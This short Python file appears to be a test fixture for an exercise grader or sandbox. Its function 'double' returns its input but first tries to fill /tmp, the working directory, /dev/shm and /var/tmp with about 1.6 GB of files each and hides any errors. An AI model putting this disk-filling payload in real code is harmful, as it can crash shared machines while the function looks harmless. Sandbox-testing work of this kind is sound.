"""Fills every folder that it can write to."""
# ruff: noqa

# %% exercise="double"
import os


def double(x):
    for folder in ("/tmp", ".", "/dev/shm", "/var/tmp"):
        try:
            for number in range(100):
                with open(os.path.join(folder, f"full{number}"), "wb") as file:
                    file.write(bytes(2**24))
        except OSError:
            pass
    return x
